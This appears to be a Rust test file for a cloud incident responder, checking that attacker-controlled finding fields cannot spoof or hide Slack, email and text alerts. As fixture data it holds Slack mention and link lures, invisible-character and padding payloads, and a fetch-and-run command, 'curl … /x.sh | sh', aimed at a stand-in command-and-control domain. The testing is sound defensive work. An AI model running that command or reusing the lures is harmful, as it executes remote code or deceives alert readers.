//! The attacker inside the contained workload chooses process names, paths, command lines,
//! domains and tags. These tests try to use that to make the alert lie (auto-links and
//! mentions in Slack, invisible text, padding that crowds indicators out of the message)
//! or vanish (a value the parser cannot read), through the whole pure pipeline.

mod common;

use common::{event_files, plans, read, strings as slack_strings};
use responder::Config;
use responder::pipeline::plan_input;
use responder::plan::ResponsePlan;
use responder::sanitize::is_dangerous;
use serde_json::{Value, json};

fn one(bytes: &[u8]) -> ResponsePlan {
    let mut all = plans(bytes);
    assert_eq!(all.len(), 1);
    all.remove(0)
}

/// Every Block Kit text object of type `mrkdwn` in the payload.
fn mrkdwn_objects<'a>(v: &'a Value, out: &mut Vec<&'a Value>) {
    match v {
        Value::Array(a) => a.iter().for_each(|x| mrkdwn_objects(x, out)),
        Value::Object(o) => {
            if o.get("type") == Some(&json!("mrkdwn")) {
                out.push(v);
            }
            o.values().for_each(|x| mrkdwn_objects(x, out));
        }
        _ => {}
    }
}

#[test]
fn slack_links_and_mentions_nothing_by_itself() {
    let mut checked = 0;
    for file in event_files() {
        for p in plans(&read(&file)) {
            let payload = serde_json::to_value(&p.notification().slack).unwrap();
            let mut texts = Vec::new();
            mrkdwn_objects(&payload, &mut texts);
            assert!(!texts.is_empty(), "{file}: no mrkdwn text");
            for t in texts {
                assert_eq!(t["verbatim"], json!(true), "{file}: {t}");
                checked += 1;
            }
            assert_eq!(payload["unfurl_links"], json!(false), "{file}");
            assert_eq!(payload["unfurl_media"], json!(false), "{file}");
        }
    }
    assert!(checked > 100, "{checked}");
}

#[test]
fn bare_mentions_urls_and_channel_names_stay_text() {
    let mut event: Value = serde_json::from_slice(&read("hostile-slack-injection.json")).unwrap();
    let lure = "@here @channel #general https://evil.example/login evil.example <!here>";
    event["detail"]["service"]["runtimeDetails"]["process"]["name"] = json!(lure);
    event["detail"]["title"] = json!(lure);
    let p = one(event.to_string().as_bytes());
    let payload = serde_json::to_value(&p.notification().slack).unwrap();
    let mut texts = Vec::new();
    mrkdwn_objects(&payload, &mut texts);
    let carrying: Vec<_> = texts
        .iter()
        .filter(|t| {
            t["text"]
                .as_str()
                .unwrap()
                .contains("@here @channel #general")
        })
        .collect();
    assert!(!carrying.is_empty(), "{payload}");
    for t in carrying {
        assert_eq!(t["verbatim"], json!(true), "{t}");
        assert!(!t["text"].as_str().unwrap().contains("<!here>"), "{t}");
    }
}

/// Code points that show as nothing or as blank (the issue's list, tags spelling text).
const INVISIBLE: &[char] = &[
    '\u{00AD}',
    '\u{034F}',
    '\u{115F}',
    '\u{1160}',
    '\u{17B4}',
    '\u{17B5}',
    '\u{180B}',
    '\u{180F}',
    '\u{2061}',
    '\u{2062}',
    '\u{2063}',
    '\u{2064}',
    '\u{206F}',
    '\u{3164}',
    '\u{FE00}',
    '\u{FE0F}',
    '\u{FFA0}',
    '\u{2800}',
    '\u{1D173}',
    '\u{1D17A}',
    '\u{E0069}',
    '\u{E0020}',
];

#[test]
fn invisible_characters_cannot_hide_text_in_any_channel() {
    let p = one(&read("hostile-invisible-chars.json"));
    let n = &p.notification();
    let mut slack = Vec::new();
    slack_strings(&serde_json::to_value(&n.slack).unwrap(), &mut slack);
    let channels = [n.subject.clone(), n.text.clone(), n.html.clone()]
        .into_iter()
        .chain(slack);
    for text in channels {
        for &c in INVISIBLE {
            assert!(!text.contains(c), "U+{:04X} in {text:?}", c as u32);
        }
        assert!(
            !text.chars().any(|c| c != '\n' && is_dangerous(c)),
            "{text:?}"
        );
    }
    // What was hidden is now on the screen: the filler after the process name, and the
    // tag characters that spelled an instruction.
    assert!(n.text.contains("kworker\\u{3164}"), "{}", n.text);
    assert!(
        n.text.contains("\\u{e0069}\\u{e0067}\\u{e006e}"),
        "{}",
        n.text
    );
    // The tag key that looks like the exemption tag is not it: the finding is contained.
    assert_eq!(p.decision.as_str(), "contain");
}

/// The indicators that must survive any padding, and where they come from.
const DOMAIN: &str = "update.cdn-telemetry.example";
const REMOTE_IP: &str = "203.0.113.66";
const TITLE: &str = "Command and control server domain name queried";
const COMMAND_HEAD: &str = "curl -s http://update.cdn-telemetry.example/x.sh";

fn assert_indicators_shown(p: &ResponsePlan, what: &str) {
    let n = &p.notification();
    let payload = serde_json::to_value(&n.slack).expect("serialises");
    let mut slack = Vec::new();
    slack_strings(&payload, &mut slack);
    let slack = slack.join("\n");
    for needle in [DOMAIN, REMOTE_IP, TITLE, COMMAND_HEAD] {
        assert!(
            slack.contains(needle),
            "{what}: {needle} pushed out of Slack"
        );
        assert!(
            n.text.contains(needle),
            "{what}: {needle} missing from text"
        );
        assert!(
            n.html.contains(needle),
            "{what}: {needle} missing from HTML"
        );
    }
    let mut texts = Vec::new();
    mrkdwn_objects(&payload, &mut texts);
    for t in texts {
        let s = t["text"].as_str().expect("a text string");
        assert!(s.chars().count() <= 3000, "{what}: over Slack's limit");
        assert_eq!(s.matches("```").count() % 2, 0, "{what}: fence broken");
    }
    assert!(payload["blocks"].as_array().expect("blocks").len() <= 50);
}

#[test]
fn ampersand_padding_cannot_push_indicators_out() {
    let bytes = read("hostile-ampersand-padding.json");
    assert_indicators_shown(&one(&bytes), "the sample");
    // Every value the attacker controls padded, much longer than the sample, with each
    // character Slack expands.
    let mut event: Value = serde_json::from_slice(&bytes).unwrap();
    for pad in ["&".repeat(5000), "<".repeat(3000), "&<>*_~`".repeat(700)] {
        let detail = &mut event["detail"];
        let process = &mut detail["service"]["runtimeDetails"]["process"];
        for key in ["name", "executablePath", "pwd", "user"] {
            process[key] = json!(pad);
        }
        let context = &mut detail["service"]["runtimeDetails"]["context"];
        context["commandLineExample"] = json!(format!("{COMMAND_HEAD} | sh {pad}"));
        for key in [
            "scriptPath",
            "libraryPath",
            "ldPreloadValue",
            "socketPath",
            "filePath",
        ] {
            context[key] = json!(pad);
        }
        detail["title"] = json!(format!("{TITLE} {pad}"));
        let p = one(event.to_string().as_bytes());
        assert_indicators_shown(&p, &pad[..8]);
    }
}

/// One clean event with one degraded value each: none may cost the alert.
#[test]
fn each_degraded_field_still_gives_a_plan_and_a_notification() {
    let clean = String::from_utf8(read("ecs-ec2-privilege-escalation-host-mount.json")).unwrap();
    let degraded: [(&str, &str, &str); 8] = [
        (
            "lone surrogate",
            r#""name": "mount""#,
            r#""name": "mount\ud800""#,
        ),
        (
            "lone low surrogate",
            r#""user": "root""#,
            r#""user": "\udc00root""#,
        ),
        (
            "null tag value",
            r#""value": "payments""#,
            r#""value": null"#,
        ),
        ("null tag", r#""tags": ["#, r#""tags": [null, "#),
        ("null in flags", r#""flags": ["#, r#""flags": [null, "#),
        (
            "masked envelope time",
            r#""time": "2026-11-20T10:00:00Z""#,
            r#""time": "XXXX-XX-XXTXX:XX:XXZ""#,
        ),
        (
            "masked createdAt",
            r#""createdAt": "2026-11-20T09:58:31.000Z""#,
            r#""createdAt": "XXXX-XX-XXTXX:XX:XX.XXXZ""#,
        ),
        (
            "object as text",
            r#""pwd": "/app""#,
            r#""pwd": {"masked": true}"#,
        ),
    ];
    let base = one(clean.as_bytes());
    for (what, from, to) in degraded {
        assert!(clean.contains(from), "{what}: fixture changed");
        let p = one(clean.replacen(from, to, 1).as_bytes());
        assert_eq!(p.decision, base.decision, "{what}");
        assert_eq!(p.surface, base.surface, "{what}");
        assert_eq!(p.actions.len(), base.actions.len(), "{what}");
        assert!(!p.notification().text.is_empty() && !p.notification().slack.blocks.is_empty());
    }
}

#[test]
fn the_degraded_sample_is_contained_and_shows_what_was_lost() {
    let p = one(&read("degraded-fields.json"));
    assert_eq!(p.decision.as_str(), "contain");
    assert_eq!(p.surface.as_str(), "ecs");
    assert!(!p.actions.is_empty());
    assert!(
        p.notification().text.contains("mount\u{FFFD}"),
        "{}",
        p.notification().text
    );
    let flags: Vec<&str> = p
        .finding
        .context()
        .unwrap()
        .flags
        .iter()
        .map(|f| f.as_raw())
        .collect();
    assert_eq!(flags, ["rw", "relatime"]);
}

#[test]
fn fields_routing_needs_still_reject_the_event() {
    let clean = String::from_utf8(read("ecs-ec2-privilege-escalation-host-mount.json")).unwrap();
    for (from, to) in [
        (r#""accountId": "123456789012""#, r#""accountId": null"#),
        (r#""resourceType": "ECSCluster""#, r#""resourceType": 7"#),
        (
            r#""detail-type": "GuardDuty Finding""#,
            r#""detail-type": null"#,
        ),
    ] {
        assert!(clean.contains(from));
        assert!(
            plan_input(clean.replacen(from, to, 1).as_bytes(), &Config::default()).is_err(),
            "{to}"
        );
    }
}

#[test]
fn the_api_wire_shape_is_read_like_an_eventbridge_detail() {
    let api = plans(&read("guardduty-api-findings.json"));
    let event: Value = serde_json::from_slice(&read("eks-execution-reverse-shell.json")).unwrap();
    let from_event = one(event.to_string().as_bytes());
    assert_eq!(api.len(), 2);
    assert_eq!(api[0].surface, from_event.surface);
    assert_eq!(api[0].decision, from_event.decision);
    assert_eq!(api[0].actions.len(), from_event.actions.len());
    assert_eq!(api[1].surface.as_str(), "ec2");
    let missing = String::from_utf8(read("guardduty-api-findings.json"))
        .unwrap()
        .replacen(r#""accountId""#, r#""x""#, 1);
    let err = plan_input(missing.as_bytes(), &Config::default()).unwrap_err();
    assert_eq!(
        err.to_string(),
        "missing required field findings[0].accountId"
    );
}
